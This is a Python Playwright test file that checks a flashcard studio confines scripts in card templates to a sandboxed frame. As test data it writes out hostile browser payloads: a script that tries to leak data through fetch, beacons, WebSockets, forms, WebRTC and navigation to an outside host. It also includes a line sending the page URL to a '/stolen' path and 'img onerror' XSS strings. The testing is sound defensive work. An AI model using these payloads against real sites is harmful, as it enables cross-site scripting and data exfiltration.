"""A hostile deck: its cards may run scripts, as in Anki, and get nowhere with them."""

from __future__ import annotations

import socket
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager, suppress
from http.server import BaseHTTPRequestHandler, HTTPServer
from pathlib import Path
from threading import Event, Thread
from typing import Any

import pytest
from playwright.sync_api import Browser, Page, expect
from playwright.sync_api import Error as PlaywrightError

from tests.studio.studio_browser import find_card_frame, run_studio
from tests.studio.studio_projects import write_small_project

pytestmark = pytest.mark.slow

# What a card tries, each with a name; whatever succeeds writes its name into the card.
ATTACK = """
<div id="got"></div>
<script>
(async () => {
  const got = (what) => { document.getElementById("got").textContent += what + " "; };
  const tries = {
    parent: () => parent.document.title,
    top: () => { top.document.title = "taken"; },
    cookie: () => document.cookie.length >= 0 && localStorage.constructor === Storage,
    opener: () => window.open("OUTSIDE/popup").document,
    form: () => {
      const form = document.createElement("form");
      form.action = "OUTSIDE/form"; form.method = "post"; document.body.append(form); form.submit();
      throw 0;
    },
    topnav: () => { top.location = "OUTSIDE/top"; throw 0; },
  };
  for (const [name, attempt] of Object.entries(tries)) {
    try { attempt(); got(name); } catch (error) { /* refused */ }
  }
  const origin = "STUDIO";
  const addresses = ["OUTSIDE/fetch", origin, origin + "undo", origin + "small/save", "/static/studio_page.js"];
  for (const address of addresses) {
    for (const method of ["POST", "GET"]) {
      try { await fetch(address, { method, mode: "no-cors" }); got(method + address); } catch { /* refused */ }
    }
    const image = new Image();
    image.onload = () => got("image:" + address);
    image.src = address;
  }
  try { new WebSocket("OUTSIDE/".replace("http", "ws")).onopen = () => got("socket"); } catch { /* refused */ }
  try { navigator.sendBeacon("OUTSIDE/beacon", "x"); } catch { /* refused */ }
  const link = document.createElement("link");
  link.rel = "stylesheet"; link.href = "OUTSIDE/style"; document.head.append(link);
  const inner = document.createElement("iframe");
  inner.src = "OUTSIDE/frame"; document.body.append(inner);
  for (const key of ["n", "e", "u", "/"]) parent.postMessage({ key }, "*");
  parent.postMessage({ ready: true, typed: "<img src=x onerror=alert(1)>", key: "__proto__" }, "*");
  document.getElementById("got").dataset.done = "1";
})();
</script>
"""


@contextmanager
def outside() -> Iterator[tuple[str, list[str]]]:
    """A server that is not the studio, and what it was asked."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.end_headers()

        do_POST = do_GET  # noqa: N815  # the names are http.server's

        def log_message(self, format: str, *args: Any) -> None:
            """Nothing: what was asked is kept."""

    server = HTTPServer(("127.0.0.1", 0), Handler)
    thread = Thread(target=server.serve_forever, args=(0.05,))
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}", asked
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


def hostile_project(root: Path, script: str) -> Path:
    """A deck whose card template holds a script."""
    write_small_project(root, 6)
    base = root / "templates" / "base"
    base.mkdir(parents=True)
    (base / "card.html.j2").write_text(
        f"[% raw %]<p>{{{{Question}}}}</p>{{{{Answer}}}}{script}[% endraw %]", encoding="utf-8"
    )
    return root


def test_a_card_reaches_nothing(tmp_path: Path, browser: Browser) -> None:
    """No parent, no storage, no network, no form, no navigation, no key that writes; nothing is
    changed.
    """
    with outside() as (address, asked):
        project = hostile_project(tmp_path, "SCRIPT")
        files = {
            path: path.read_bytes()
            for path in project.rglob("*")
            if path.is_file() and path.suffix == ".yaml"
        }
        with run_studio(project) as studio:
            template = project / "templates" / "base" / "card.html.j2"
            attack = ATTACK.replace("OUTSIDE", address).replace("STUDIO", studio)
            template.write_text(
                template.read_text(encoding="utf-8").replace("SCRIPT", attack), encoding="utf-8"
            )
            page = browser.new_context().new_page()
            page.goto(studio)
            title = page.title()
            page.locator(".row").nth(1).click()
            card = find_card_frame(page)
            expect(card.locator("#got")).to_have_attribute("data-done", "1")
            page.wait_for_timeout(500)
            assert card.locator("#got").inner_text().strip() == ""
            assert page.title() == title
            assert page.url.startswith(studio)
            expect(page.locator("#question-form")).to_have_count(0)
            assert page.locator("img").count() == 0
            page.keyboard.press("j")
            expect(page.locator(".row").nth(2)).to_have_attribute("aria-selected", "true")
            page.context.close()
        assert asked == []
        assert {path: path.read_bytes() for path in files} == files


def test_a_card_cannot_leave_its_frame_for_elsewhere(tmp_path: Path, browser: Browser) -> None:
    """A frame may navigate itself; the page around it lets it go nowhere but to cards."""
    with outside() as (address, asked):
        project = hostile_project(
            tmp_path, f"<script>location.href = '{address}/stolen?' + location.href;</script>"
        )
        with run_studio(project) as studio:
            page = browser.new_context().new_page()
            page.goto(studio)
            page.locator(".row").nth(1).click()
            page.wait_for_timeout(1000)
            assert asked == []
            page.context.close()


# WebRTC talks to a STUN and a TURN server as soon as it is asked for a way out.
CALL = """
const call = async () => {
  const urls = ["stun:127.0.0.1:UDP", "turn:127.0.0.1:UDP?transport=udp", "turn:127.0.0.1:TCP?transport=tcp"];
  const peer = new RTCPeerConnection({ iceServers: [{ urls, username: "words of the card", credential: "x" }] });
  peer.createDataChannel("out");
  await peer.setLocalDescription(await peer.createOffer());
};
call();
"""
CALLS = f"<script>{CALL}</script><iframe srcdoc='<script>{CALL}</script>'></iframe>"
# Chromium from this version on keeps to the header that closes WebRTC; older ones are not known.
GUARDED_CHROMIUM = 156


@contextmanager
def listening() -> Iterator[tuple[str, list[str]]]:
    """Cards with a call to a UDP and a TCP port, and what these ports hear."""
    heard: list[str] = []
    with (
        socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp,
        socket.create_server(("127.0.0.1", 0)) as tcp,
    ):
        udp.bind(("127.0.0.1", 0))
        for each in (udp, tcp):
            each.settimeout(0.2)
        is_over = Event()

        def listen() -> None:
            while not is_over.is_set():
                with suppress(TimeoutError):
                    udp.recv(2000)
                    heard.append("udp")
                with suppress(TimeoutError):
                    tcp.accept()[0].close()
                    heard.append("tcp")

        thread = Thread(target=listen)
        thread.start()
        ports = {"UDP": udp.getsockname()[1], "TCP": tcp.getsockname()[1]}
        script = CALLS
        for name, port in ports.items():
            script = script.replace(f":{name}", f":{port}")
        try:
            yield script, heard
        finally:
            is_over.set()
            thread.join()


def wait_for_silence(heard: list[str]) -> None:
    """Wait until what was sent before has been heard: packets wait for the listener."""
    end = time.monotonic() + 300
    count = -1
    while count < len(heard):
        assert time.monotonic() < end, "the page goes on sending"
        count = len(heard)
        time.sleep(1)


def test_a_card_makes_no_calls(tmp_path: Path, browser: Browser) -> None:
    """WebRTC reaches no port; the same script in a page without the studio's headers reaches both."""
    if int(browser.version.split(".")[0]) < GUARDED_CHROMIUM:
        pytest.skip(f"needs Chromium {GUARDED_CHROMIUM}")
    with listening() as (script, heard):
        page = browser.new_page()
        free = tmp_path / "free.html"
        free.write_text(script, encoding="utf-8")
        page.goto(free.as_uri())
        end = time.monotonic() + 300
        while set(heard) != {"udp", "tcp"} and time.monotonic() < end:
            page.wait_for_timeout(50)
        page.close()
        assert set(heard) == {"udp", "tcp"}
        project = hostile_project(tmp_path / "project", script)
        with run_studio(project) as studio:
            page = browser.new_page()
            page.goto("about:blank")
            wait_for_silence(heard)
            heard.clear()
            crashed: list[Page] = []
            page.on("crash", lambda gone: crashed.append(gone))
            page.goto(studio)
            page.locator(".row").nth(1).click()
            try:
                page.locator("iframe").first.wait_for(state="attached")
            except PlaywrightError:
                # Chromium ends the process that makes such a call, and the page may be in it too.
                assert crashed
            time.sleep(2)
            assert heard == []
            page.close()


def test_texts_are_no_html(tmp_path: Path, look: Callable[..., Page]) -> None:
    """Ids, prompts, tags, actors, names, findings and quotations with HTML in them are shown as
    they are written.
    """
    evil = "<img src=x onerror=\"document.title='taken'\">"
    root = write_small_project(tmp_path, 3)
    path = root / "cards/small/questions.yaml"
    text = path.read_text(encoding="utf-8")
    text = text.replace("kind: basic\n", f"kind: basic\ntags: ['{evil.replace(chr(32), '_')}']\n")
    text = text.replace("By whom was number Don seen?", f"Who {evil} number Don?")
    path.write_text(text, encoding="utf-8")
    (root / "cards/small/deck.yaml").write_text(
        f"id: small-deck-1\nname: >-\n  Small {evil}\nsource: text\n", encoding="utf-8"
    )
    (root / "seeds/text.yaml").write_text(
        f"title: >-\n  {evil}\nvoice: the text\nlanguage: en\nactors:\n  ? >-\n    {evil}\n  : []\n",
        encoding="utf-8",
    )
    source = root / "seeds/text.txt"
    source.write_text(
        source.read_text(encoding="utf-8") + f"Nobody quotes {evil} in this sentence.\n",
        encoding="utf-8",
    )
    with run_studio(root) as address:
        page = look(address)
        page.locator(".row").nth(1).click()
        expect(find_card_frame(page).locator(".prompt")).to_contain_text("onerror")
        page.keyboard.press("g")
        page.keyboard.press("n")
        expect(page.locator("[data-quote]").first).to_have_value(
            f"Nobody quotes {evil} in this sentence."
        )
        page.locator("[data-value=question]").fill(evil)
        page.locator("[data-value=answer]").fill("x" + evil)
        page.wait_for_selector("#detail .finding, #detail .fault")
        assert page.title() != "taken"
        assert page.locator("img").count() == 0
        page.locator("#cancel").click()
        page.close()
